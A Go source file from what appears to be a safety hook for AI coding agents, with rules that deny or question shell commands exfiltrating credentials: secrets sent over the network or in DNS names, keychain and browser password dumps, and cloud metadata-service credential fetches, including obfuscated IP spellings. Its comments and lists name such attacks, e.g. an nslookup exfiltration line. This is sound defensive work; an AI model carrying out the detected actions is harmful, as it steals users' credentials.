package danger

import (
	"path"
	"slices"
	"strconv"
	"strings"

	"github.com/hookkit/harness/lib/shell"
)

// The rules of this pack.
var (
	exfilGitAddDevEnv     = &Rule{ID: "exfil.git-add-dev-env", Action: Ask, Radius: Medium, Instead: "check it holds no credentials"}
	exfilGitAddSecret     = &Rule{ID: "exfil.git-add-secret", Action: Deny, Radius: High, Instead: "keep credentials out of the repository; commit a template such as .env.example instead"}
	exfilCredentialStore  = &Rule{ID: "exfil.credential-store", Action: Deny, Radius: High, Instead: "leave the keychain and the browsers' saved passwords alone; read the one secret a tool needs where it is used, or ask the user"}
	exfilSecret           = &Rule{ID: "exfil.secret", Action: Deny, Radius: High, Instead: "never send credentials anywhere"}
	exfilSecretVar        = &Rule{ID: "exfil.secret-var", Action: Deny, Radius: High, Instead: "never send credentials anywhere; ask the user if something needs them"}
	exfilSecretVarRequest = &Rule{ID: "exfil.secret-var-request", Action: Ask, Radius: Medium, Instead: "put the credential in a header or login option of a request to the service it belongs to"}
	exfilMetadata         = &Rule{ID: "exfil.metadata-credentials", Action: Deny, Radius: High, Instead: "let the cloud SDK use the instance's identity where the code runs; never fetch its credentials into the session"}
)

var packExfil = pack{name: "exfil", title: "credential exfiltration",
	rules: []*Rule{exfilCredentialStore, exfilGitAddDevEnv, exfilGitAddSecret, exfilMetadata, exfilSecret, exfilSecretVar, exfilSecretVarRequest},
	each:  []func(*judge, *shell.Cmd){(*judge).exfil, (*judge).secretVars, (*judge).credentialDump, (*judge).metadataCredentials},
}

// The option grammars of the programs this file judges: which options take a value.
var (
	jqOpts = shell.Opts{Long: []string{"arg", "argjson", "slurpfile", "rawfile", "indent"}}
)

// exfil: credentials or the environment sent over the network.
func (j *judge) exfil(c *shell.Cmd) {
	// glab, hub and tea post what they are given on the hosting service, as gh does
	if !fetcher(c.Name) && !dnsTool(c.Name) && !icmpTool(c.Name) && c.Name != "rsync" && c.Name != "aws" && c.Name != "gsutil" && c.Name != "rclone" &&
		c.Name != "glab" && c.Name != "hub" && c.Name != "tea" {
		return
	}
	if c.Name == "openssl" && !opensslConnects(c.Args) {
		return // x509, rsa, pkcs12, req...: it converts or checks files on this machine
	}
	secret := ""
	note := func(what string) {
		if secret == "" {
			secret = what
		}
	}
	check := func(v string) {
		v = strings.TrimSuffix(strings.SplitN(v, ";", 2)[0], ",")
		if v != "" && !strings.Contains(v, "://") && shell.Known(v) && j.isSecretFile(j.resRead(c, v)) {
			note(v)
		}
	}
	// ssh -i KEY uses the key to log in, and openssl s_client -key KEY to shake hands: what
	// either sends is its stdin, checked below.
	if c.Name != "ssh" && c.Name != "openssl" {
		uploadValue, identity := false, false
		for _, a := range c.Args {
			if identity {
				identity = false
				continue
			}
			sshFamily := c.Name == "scp" || c.Name == "sftp" || c.Name == "rsync"
			if c.Name == "rsync" && (a == "--exclude" || a == "--include" || a == "--filter" || a == "-f") {
				identity = true // a pattern of what to leave out or take, not a file sent
				continue
			}
			if c.Name == "rsync" && (strings.HasPrefix(a, "--exclude=") || strings.HasPrefix(a, "--include=") || strings.HasPrefix(a, "--filter=")) {
				continue
			}
			if a == "--query" || a == "--filter" || a == "--filters" || a == "--output" || a == "--format" {
				identity = true // a JMESPath query, a filter or an output format: text, not a file
				continue
			}
			if strings.HasPrefix(a, "--query=") || strings.HasPrefix(a, "--filter=") || strings.HasPrefix(a, "--format=") {
				continue
			}
			if sshFamily && (a == "-i" || a == "-F") {
				identity = true // the key or config used to log in, not a file sent
				continue
			}
			if sshFamily && strings.HasPrefix(a, "-i") && len(a) > 2 || strings.HasPrefix(a, "IdentityFile=") {
				continue
			}
			if attached, ok := localFileOption(c.Name, a); ok {
				identity = !attached
				continue
			}
			if uploadValue {
				check(strings.TrimPrefix(a, "@"))
				uploadValue = false
				continue
			}
			switch {
			case a == "-T" || a == "--upload-file" || a == "--post-file" || a == "--body-file":
				uploadValue = true
			case strings.HasPrefix(a, "--") && strings.Contains(a, "="):
				_, v, _ := strings.Cut(a, "=")
				check(strings.TrimPrefix(v, "@"))
			case strings.Contains(a, "@"):
				// curl -d @file, -F name=@file; httpie name@file
				check(a[strings.LastIndex(a, "@")+1:])
			case strings.HasPrefix(strings.ToUpper(a), "FILE:") || strings.HasPrefix(strings.ToUpper(a), "OPEN:") || strings.HasPrefix(strings.ToUpper(a), "GOPEN:"):
				_, v, _ := strings.Cut(a, ":")
				check(strings.SplitN(v, ",", 2)[0])
			case !strings.HasPrefix(a, "-"):
				check(a)
			}
		}
	}
	if c.Stdin != nil {
		if c.Stdin.File != "" && j.isSecretFile(j.resRead(c, c.Stdin.File)) {
			note(c.Stdin.File)
		}
		for _, f := range c.Stdin.From {
			if what := j.readsSecret(f); what != "" {
				note(what)
			} else if what := printedVar(f); what != "" && f.Name == "printenv" && (rawSocket(c.Name) || httpClient(c.Name)) {
				note(what)
			} else if what := printsToken(f); what != "" && !(strings.Contains(strings.Join(c.Args, " "), "--password-stdin") && strings.Contains(strings.Join(c.Args, " "), "login")) {
				note(what) // (aws ecr get-login-password | ssh host docker login --password-stdin is how it is used)
			}
		}
	}
	for _, f := range c.ArgsFrom {
		if what := j.readsSecret(f); what != "" {
			note(what)
		} else if what := printedVar(f); what != "" && dnsTool(c.Name) {
			note(what)
		} else if what := printsToken(f); what != "" && !secretStore(f) && (dnsTool(c.Name) || !tokenHome(f, requestHost(c.Args))) {
			// A token substituted into a request to its own service is how it is used; to
			// any other host, or into a DNS name, it is sent away.
			note(what)
		}
	}
	if dnsTool(c.Name) && secret == "" {
		for i, a := range c.Args {
			if i < len(c.FromArg) && len(c.FromArg[i]) > 0 && outsideName(a) {
				// nslookup $(whoami).$(hostname).x.example.io: the name carries what the
				// commands print to whoever answers for the domain
				note("the output of " + c.FromArg[i][0].Name + " in a DNS name")
				break
			}
		}
	}
	if secret == "" {
		return
	}
	if (c.Name == "scp" || c.Name == "rsync" || c.Name == "sftp") && !anyRemote(c.Args) {
		return
	}
	j.add(c, exfilSecret, c.Name+" sends "+secret+" over the network", "never send credentials anywhere; ask the user if something needs them")
}

// opensslConnects reports an openssl command that talks to a server (s_client, s_time, or a
// -connect/-url given to ocsp and the like).
func opensslConnects(args []string) bool {
	if len(args) > 0 && (args[0] == "s_client" || args[0] == "s_time") {
		return true
	}
	for _, a := range args {
		if a == "-connect" || a == "-url" || a == "-host" || strings.HasPrefix(a, "-connect=") || strings.HasPrefix(a, "-url=") {
			return true
		}
	}
	return false
}

// localFileOption reports an option of an HTTP client whose value is a file the client uses
// on this machine, not one it sends: a TLS certificate or key (curl --cert/-E/--key, wget
// --private-key, httpie --cert-key), a CA bundle, a config or netrc file read for the login,
// or where output, headers or cookies are written. attached says the value is in a itself
// (--cert=F, -EF).
func localFileOption(prog, a string) (attached, ok bool) {
	var short, long string
	switch prog {
	case "curl":
		short, long = "EKocD", " cert key cacert capath crlfile pinnedpubkey proxy-cert proxy-key proxy-cacert proxy-capath proxy-crlfile proxy-pinnedpubkey netrc-file config output output-dir cookie-jar dump-header trace trace-ascii stderr etag-save hsts alt-svc libcurl "
	case "wget":
		short, long = "OoaP", " certificate private-key ca-certificate ca-directory crl-file output-document output-file append-output save-cookies directory-prefix config "
	case "http", "https", "xh", "xhs":
		short, long = "o", " cert cert-key verify output session session-read-only "
	case "aria2c":
		short, long = "do", " certificate private-key ca-certificate dir out save-cookies "
	default:
		return false, false
	}
	if name, ok := strings.CutPrefix(a, "--"); ok {
		name, _, eq := strings.Cut(name, "=")
		return eq, strings.Contains(long, " "+name+" ")
	}
	if len(a) >= 2 && a[0] == '-' && strings.IndexByte(short, a[1]) >= 0 {
		return len(a) > 2, true
	}
	return false, false
}

func anyRemote(args []string) bool {
	for _, a := range args {
		if i := strings.IndexByte(a, ':'); i > 0 && !strings.HasPrefix(a, "-") && !strings.Contains(a[:i], "/") {
			return true
		}
	}
	return false
}

// dnsTool: programs that resolve names: a secret substituted into the name is sent to whoever serves the
// domain (DNS exfiltration).
// (Switches, not maps: a package-level map is built at every hook start.)
// outsideName reports a DNS name built from a run-time value and a literal domain that is not
// the cluster's or the network's own ($(cmd).x.example.io; not $(svc).default.svc.cluster.local).
func outsideName(a string) bool {
	i := strings.LastIndex(a, shell.Dyn)
	if i < 0 {
		return false
	}
	rest := strings.ToLower(strings.TrimSuffix(a[i+1:], "."))
	if !strings.HasPrefix(rest, ".") || strings.Count(rest, ".") < 2 {
		return false
	}
	for _, local := range []string{".local", ".internal", ".lan", ".localhost", ".svc", ".home.arpa", ".test", ".example", ".invalid"} {
		if strings.HasSuffix(rest, local) {
			return false
		}
	}
	return true
}

func dnsTool(name string) bool {
	switch name {
	case "dig", "nslookup", "host", "drill", "resolvectl", "getent":
		return true
	}
	return false
}

// printedVar names the credential variable an echo, printf or printenv prints ("" if none).
func printedVar(c *shell.Cmd) string {
	switch c.Name {
	case "printenv":
		for _, a := range c.Args {
			if shell.SecretName(a) {
				return "$" + a
			}
		}
	case "echo", "printf":
		for _, a := range c.Args {
			for _, v := range shell.Vars(a) {
				if shell.SecretName(v) {
					return "$" + v
				}
			}
		}
	}
	return ""
}

// secretStore reports a read from a secret store (a value with no one service it belongs to):
// substituted into a request it is being used; only piping it whole to the network is sending it.
func secretStore(c *shell.Cmd) bool {
	s := c.Name + " " + strings.Join(c.Args, " ")
	for _, w := range []string{"secretsmanager get-secret-value", "ssm get-parameter", "vault ", "keyvault secret show", "secrets versions access", "kubectl get secret", "oc get secret"} {
		if strings.Contains(s, w) {
			return true
		}
	}
	return false
}

// tokenHome reports whether host is the service the token printed by c belongs to.
func tokenHome(c *shell.Cmd, host string) bool {
	switch c.Name {
	case "gh":
		return strings.Contains(host, "github") || host == "ghcr.io"
	case "aws":
		return strings.HasSuffix(host, ".amazonaws.com")
	case "gcloud":
		if slices.Contains(c.Args, "print-identity-token") {
			return true // an identity token is made for the caller's own services, wherever they live
		}
		return strings.HasSuffix(host, ".googleapis.com") || strings.HasSuffix(host, ".run.app") || strings.HasSuffix(host, ".pkg.dev") || host == "gcr.io" ||
			strings.HasSuffix(host, ".cloudfunctions.net") || strings.HasSuffix(host, ".firebaseio.com") || strings.HasSuffix(host, ".appspot.com")
	case "az":
		return strings.HasSuffix(host, ".azure.com") || strings.HasSuffix(host, ".azure.net") || strings.HasSuffix(host, ".microsoft.com") || strings.HasSuffix(host, ".windows.net") || strings.HasSuffix(host, ".azurecr.io")
	case "kubectl", "oc", "git", "op":
		return false // a kubeconfig, a git credential or a vault item has no one service it is sent to
	case "heroku":
		return strings.HasSuffix(host, ".heroku.com")
	}
	return host != "" // a secret store's value (vault, secretsmanager) has no one home: judged elsewhere
}

// printsToken says which credential a command prints (gh auth token, aws configure
// export-credentials, ...). Piped whole into a network tool it is exfiltration; substituted
// into an argument ($(gh auth token) in an Authorization header) it is how these tokens are
// meant to be used, so only the pipe counts.
func printsToken(c *shell.Cmd) string {
	switch c.Name {
	case "gh":
		if len(c.Args) > 1 && c.Args[0] == "auth" && c.Args[1] == "token" {
			return "the GitHub token (gh auth token)"
		}
	case "aws":
		if len(c.Args) > 1 && c.Args[0] == "configure" && (c.Args[1] == "export-credentials" || c.Args[1] == "get") {
			return "AWS credentials (aws configure " + c.Args[1] + ")"
		}
	case "gcloud":
		if slices.Contains(c.Args, "print-access-token") || slices.Contains(c.Args, "print-identity-token") {
			return "a Google Cloud access token"
		}
	case "az":
		if len(c.Args) > 1 && c.Args[0] == "account" && c.Args[1] == "get-access-token" {
			return "an Azure access token"
		}
		if len(c.Args) > 2 && c.Args[0] == "keyvault" && c.Args[1] == "secret" && c.Args[2] == "show" {
			return "a Key Vault secret"
		}
	case "kubectl", "oc":
		ops := shell.KubectlOpts.Parse(c.Args).Operands
		if len(ops) > 1 && ops[0] == "get" && (ops[1] == "secret" || ops[1] == "secrets" || strings.HasPrefix(ops[1], "secret/")) {
			return "Kubernetes secrets (kubectl get secrets)"
		}
		if len(ops) > 1 && ops[0] == "config" && ops[1] == "view" && slices.Contains(c.Args, "--raw") {
			return "the clusters' client keys and tokens (" + c.Name + " config view --raw)"
		}
	case "git":
		if len(c.Args) > 1 && c.Args[0] == "credential" && c.Args[1] == "fill" {
			return "a stored git password or token (git credential fill)"
		}
	case "heroku":
		if at(c.Args, 0) == "auth:token" {
			return "the Heroku API token (heroku auth:token)"
		}
	case "op":
		if at(c.Args, 0) == "read" || at(c.Args, 0) == "item" && at(c.Args, 1) == "get" && slices.Contains(c.Args, "--reveal") {
			return "a 1Password secret (op " + at(c.Args, 0) + ")"
		}
	case "gpg", "gpg2":
		if slices.Contains(c.Args, "--export-secret-keys") || slices.Contains(c.Args, "--export-secret-subkeys") {
			return "GPG secret keys (gpg --export-secret-keys)"
		}
	case "vault":
		if len(c.Args) > 0 && (c.Args[0] == "read" || len(c.Args) > 1 && c.Args[0] == "kv" && c.Args[1] == "get") {
			return "a Vault secret"
		}
	case "curl", "wget":
		for _, a := range c.Args {
			if strings.Contains(a, "169.254.169.254") && strings.Contains(a, "credentials") || strings.Contains(a, "metadata.google.internal") && strings.Contains(a, "token") {
				return "the instance's cloud credentials (metadata service)"
			}
		}
	}
	if c.Name == "aws" && len(c.Args) > 1 {
		switch c.Args[0] + " " + c.Args[1] {
		case "secretsmanager get-secret-value", "ssm get-parameter", "ssm get-parameters", "ssm get-parameters-by-path", "sts get-session-token", "sts assume-role", "ecr get-login-password":
			return "a secret from AWS (aws " + c.Args[0] + " " + c.Args[1] + ")"
		}
	}
	if c.Name == "gcloud" && slices.Contains(c.Args, "secrets") && slices.Contains(c.Args, "access") {
		return "a Google Cloud secret"
	}
	return ""
}

// readsSecret says which secret a command prints: a credential file, or the environment.
func (j *judge) readsSecret(c *shell.Cmd) string {
	if what := containerEnv(c); what != "" {
		return what
	}
	if c.Name == "jq" || c.Name == "gojq" || c.Name == "jaq" {
		// jq -n env, jq -n '$ENV': the whole environment as JSON.
		p := jqOpts.Parse(c.Args)
		if len(p.Operands) > 0 {
			if f := strings.TrimSpace(p.Operands[0]); f == "env" || f == "$ENV" || f == "{env: env}" || f == "{env: $ENV}" {
				return "the environment (API keys and tokens live there)"
			}
		}
	}
	switch c.Name {
	case "security":
		return keychainSecret(c.Args)
	case "env", "printenv":
		if len(c.Args) == 0 || c.Name == "env" && len(shell.Opts{}.Parse(c.Args).Operands) == 0 {
			return "the environment (API keys and tokens live there)"
		}
	case "set", "export", "declare":
		if len(c.Args) == 0 || len(c.Args) == 1 && (c.Args[0] == "-p" || c.Args[0] == "-x") {
			return "the environment (API keys and tokens live there)"
		}
	case "cat", "tac", "nl", "base64", "base32", "gzip", "bzip2", "xz", "zstd", "tar", "zip", "head", "tail", "xxd", "od",
		"hexdump", "strings", "gpg", "openssl", "less", "more", "grep", "egrep", "fgrep", "rg", "ag", "sed", "awk", "gawk",
		"mawk", "jq", "yq", "cut", "sort", "uniq", "paste", "column", "fold", "iconv", "cp", "install", "dd", "xargs":
		// Readers and copiers: an operand (or if=FILE, -a FILE) that is a credential file. A
		// copy passes it on: its destination becomes a secret file for the commands after it.
		for i, a := range c.Args {
			v := a
			switch {
			case c.Name == "dd" && strings.HasPrefix(a, "if="):
				v = a[3:]
			case c.Name == "xargs" && (a == "-a" || a == "--arg-file") && i+1 < len(c.Args):
				v = c.Args[i+1]
			case c.Name == "xargs" && strings.HasPrefix(a, "--arg-file="):
				v = strings.TrimPrefix(a, "--arg-file=")
			case strings.HasPrefix(a, "-"):
				continue
			}
			if j.isSecretFile(j.resRead(c, v)) {
				return v
			}
		}
	}
	if c.Stdin != nil && c.Stdin.File != "" && j.isSecretFile(j.resRead(c, c.Stdin.File)) {
		return c.Stdin.File
	}
	return ""
}

// keychainSecret says what secret a macOS security command prints: find-generic-password
// and find-internet-password print the password with -w (-g writes it to stderr), and
// dump-keychain -d decrypts every item; without them they print only the item's attributes.
func keychainSecret(args []string) string {
	switch at(args, 0) {
	case "find-generic-password", "find-internet-password":
		for _, a := range args[1:] {
			if strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "--") && strings.ContainsAny(a, "wg") && len(a) <= 4 {
				return "a password from the keychain (security " + args[0] + " " + a + ")"
			}
		}
	case "dump-keychain":
		for _, a := range args[1:] {
			if strings.HasPrefix(a, "-") && strings.Contains(a, "d") {
				return "every secret of the keychain (security dump-keychain -d)"
			}
		}
	}
	return ""
}

// credentialStoreCopiers read or copy a file whole: given a keychain or a browser's password
// store, each takes the secrets somewhere they can be read.
var credentialStoreCopiers = []string{"cp", "ditto", "rsync", "scp", "tar", "zip", "7z", "7za", "gzip", "xz", "zstd",
	"sqlite3", "cat", "base64", "xxd", "hexdump", "strings", "dd", "install", "mv", "cpio", "pax", "rclone", "hdiutil"}

// credentialDump: security dump-keychain -d, a keychain password written to a file, and a
// keychain or a browser's saved passwords and cookies copied or read out (sent over the
// network, exfil.secret decides first).
func (j *judge) credentialDump(c *shell.Cmd) {
	if c.Name == "security" {
		what := keychainSecret(c.Args)
		switch {
		case at(c.Args, 0) == "dump-keychain" && what != "":
			j.add(c, exfilCredentialStore, "it prints "+what+" in the clear", "")
		case what != "" && len(c.Writes(j.world.Home)) > 0:
			j.add(c, exfilCredentialStore, "it copies "+what+" into a file", "")
		}
		return
	}
	if !slices.Contains(credentialStoreCopiers, c.Name) {
		return
	}
	for _, a := range c.Args {
		if i := strings.Index(a, "@"); i >= 0 && (i == 0 || a[i-1] == '=') {
			a = a[i+1:]
		} else if v, ok := strings.CutPrefix(a, "if="); ok {
			a = v
		} else if strings.HasPrefix(a, "-") {
			continue
		}
		if a != "" && shell.Known(a) && j.credentialStore(j.resRead(c, a)) {
			j.add(c, exfilCredentialStore, c.Name+" copies or reads out "+a+", which holds saved passwords or session cookies", "")
			return
		}
	}
}

// credentialStore reports a macOS keychain (~/Library/Keychains, /Library/Keychains) or a
// browser's saved passwords, cookies and keys (Chrome's and Edge's Login Data and Cookies,
// Firefox's logins.json, key4.db and cookies.sqlite, Safari's cookies), or a folder holding one.
func (j *judge) credentialStore(p string) bool {
	lp := strings.ToLower(j.canon(p))
	if under(lp, "/library/keychains") {
		return true
	}
	for _, h := range j.homes() {
		lh := strings.ToLower(j.canon(h))
		if under(lp, lh+"/library/keychains") || under(lp, lh+"/library/cookies") || lp == lh+"/library/containers/com.apple.safari/data/library/cookies" {
			return true
		}
		inApp := under(lp, lh+"/library/application support") || under(lp, lh+"/.config") || under(lp, lh+"/.mozilla") || under(lp, lh+"/snap") ||
			under(lp, lh+"/appdata/local") || under(lp, lh+"/appdata/roaming") // Windows: %LOCALAPPDATA%, %APPDATA%
		if !inApp {
			continue
		}
		switch path.Base(lp) {
		case "login data", "login data for account", "cookies", "web data", "logins.json", "key4.db", "key3.db", "cookies.sqlite", "signons.sqlite":
			return true
		}
	}
	return false
}

// metadataCredentials: the instance's cloud credentials fetched from its metadata service, by
// an HTTP client or in an interpreter's code. What a command prints goes into the session and
// to the model's provider: a live credential of the machine's identity, leaving it.
func (j *judge) metadataCredentials(c *shell.Cmd) {
	texts := []string{c.Code}
	if fetcher(c.Name) || c.Name == "http" || c.Name == "https" || c.Name == "xh" {
		texts = append(texts, c.Args...)
		texts = append(texts, resolvedURLs(c.Args)...)
	}
	for _, t := range texts {
		if what := metadataCredentialURL(t); what != "" {
			j.add(c, exfilMetadata, "it fetches "+what+" from the instance's metadata service", "")
			return
		}
	}
}

// metadataCredentialURL names the credential a metadata-service URL in s serves: AWS's role
// credentials (IMDS and ECS task roles), GCP's service-account tokens and keys, Azure's
// managed-identity tokens (GCP's also under the short host name metadata); "" for anything
// else (instance ids, regions, tags).
func metadataCredentialURL(s string) string {
	s = metadataCanon(s)
	if !strings.Contains(s, "169.254.169.254") && !strings.Contains(s, "169.254.170.2") && !strings.Contains(s, "metadata.google.internal") && !strings.Contains(s, "[fd00:ec2::254]") &&
		!strings.Contains(s, "://metadata/computeMetadata/") {
		return ""
	}
	l := strings.ToLower(s)
	switch {
	case strings.Contains(l, "/iam/security-credentials") || strings.Contains(l, "169.254.170.2/v2/credentials") || strings.Contains(l, "/identity-credentials/"),
		strings.Contains(s, "169.254.170.2"+shell.Dyn+"VAWS_CONTAINER_CREDENTIALS_RELATIVE_URI"), strings.Contains(s, "169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"):
		// ECS: the task role's credentials live at the path the task's variable names
		return "the instance role's AWS credentials"
	case strings.Contains(l, "/service-accounts/") && (strings.Contains(l, "/token") || strings.Contains(l, "/identity")):
		return "a Google Cloud service-account token"
	case strings.Contains(l, "/metadata/identity/oauth2/token"):
		return "an Azure managed-identity token"
	}
	return ""
}

// resolvedURLs are the URLs among curl's arguments with the host curl is told to connect to
// instead (--resolve HOST:PORT:ADDR, --connect-to HOST:PORT:ADDR:PORT, an empty HOST for any).
func resolvedURLs(args []string) []string {
	to := map[string]string{}
	for i, a := range args {
		v, ok := strings.CutPrefix(a, "--resolve=")
		if !ok {
			v, ok = strings.CutPrefix(a, "--connect-to=")
		}
		if !ok && (a == "--resolve" || a == "--connect-to") && i+1 < len(args) {
			v, ok = args[i+1], true
		}
		if !ok {
			continue
		}
		parts := strings.Split(strings.TrimPrefix(v, "+"), ":")
		if len(parts) >= 3 && parts[2] != "" {
			to[strings.ToLower(parts[0])] = strings.Trim(parts[2], "[]")
		}
	}
	if len(to) == 0 {
		return nil
	}
	var out []string
	for _, a := range args {
		scheme := strings.Index(a, "://")
		if scheme < 0 {
			continue
		}
		rest := a[scheme+3:]
		end := strings.IndexAny(rest, "/?#")
		if end < 0 {
			end = len(rest)
		}
		host, _, _ := strings.Cut(rest[:end], ":")
		addr, ok := to[strings.ToLower(host)]
		if !ok {
			addr, ok = to[""]
		}
		if ok {
			out = append(out, a[:scheme+3]+addr+rest[end:])
		}
	}
	return out
}

// metadataCanon spells a URL aimed at the metadata service as the rules know it: the host
// written as one decimal, hex or octal number, in parts (169.254.43518), or by its AWS name
// (instance-data, instance-data.ec2.internal) is 169.254.169.254; /./ and // in the path, which
// the client removes before sending, are gone.
func metadataCanon(s string) string {
	scheme := strings.Index(s, "://")
	if scheme < 0 {
		return s
	}
	rest := s[scheme+3:]
	end := strings.IndexAny(rest, "/?#")
	if end < 0 {
		end = len(rest)
	}
	host, tail := rest[:end], rest[end:]
	name, port, hasPort := strings.Cut(host, ":")
	switch ln := strings.ToLower(name); {
	case ln == "instance-data" || ln == "instance-data.ec2.internal":
		name = "169.254.169.254"
	default:
		if ip, ok := inetAton(name); ok {
			name = ip
		}
	}
	if name != "169.254.169.254" && name != "169.254.170.2" {
		return s
	}
	if hasPort {
		name += ":" + port
	}
	for strings.Contains(tail, "/./") || strings.Contains(tail, "//") {
		tail = strings.ReplaceAll(strings.ReplaceAll(tail, "/./", "/"), "//", "/")
	}
	return s[:scheme+3] + name + tail
}

// inetAton reads an IPv4 address as inet_aton does (and curl with it): one to four parts,
// each decimal, 0x hex or 0 octal, the last filling the bytes left; "" when it is not one.
func inetAton(s string) (string, bool) {
	if s == "" || strings.Count(s, ".") > 3 {
		return "", false
	}
	parts := strings.Split(s, ".")
	var vals []uint64
	for _, p := range parts {
		base := 10
		switch {
		case strings.HasPrefix(p, "0x") || strings.HasPrefix(p, "0X"):
			base, p = 16, p[2:]
		case len(p) > 1 && p[0] == '0':
			base, p = 8, p[1:]
		}
		if p == "" {
			return "", false
		}
		var v uint64
		for _, ch := range strings.ToLower(p) {
			d := strings.IndexRune("0123456789abcdef", ch)
			if d < 0 || d >= base {
				return "", false
			}
			v = v*uint64(base) + uint64(d)
			if v > 1<<32 {
				return "", false
			}
		}
		vals = append(vals, v)
	}
	var ip uint64
	n := len(vals)
	for i, v := range vals[:n-1] {
		if v > 255 {
			return "", false
		}
		ip |= v << (24 - 8*i)
	}
	if last := vals[n-1]; last >= 1<<(8*(5-n)) {
		return "", false
	} else {
		ip |= last
	}
	return strconv.Itoa(int(ip>>24)) + "." + strconv.Itoa(int(ip>>16&255)) + "." + strconv.Itoa(int(ip>>8&255)) + "." + strconv.Itoa(int(ip&255)), true
}

// icmpTool reports programs that put data of the caller's choosing into packets: ping's -p
// padding, nping's and hping's payloads.
func icmpTool(name string) bool {
	return name == "ping" || name == "ping6" || name == "nping" || name == "hping3"
}

// containerEnv says a command prints a container's environment, its secrets with it: docker
// inspect, unless a --format picks something else.
func containerEnv(c *shell.Cmd) string {
	if c.Name != "docker" && c.Name != "podman" && c.Name != "nerdctl" {
		return ""
	}
	if slices.Contains(c.Args, "inspect") {
		format := ""
		for k, a := range c.Args {
			if a == "--format" || a == "-f" {
				format = at(c.Args, k+1)
			} else if v, ok := strings.CutPrefix(a, "--format="); ok {
				format = v
			}
		}
		if format == "" || strings.Contains(format, "Env") || strings.Contains(format, "json .Config") {
			return "a container's environment (" + c.Name + " inspect)"
		}
	}
	return ""
}
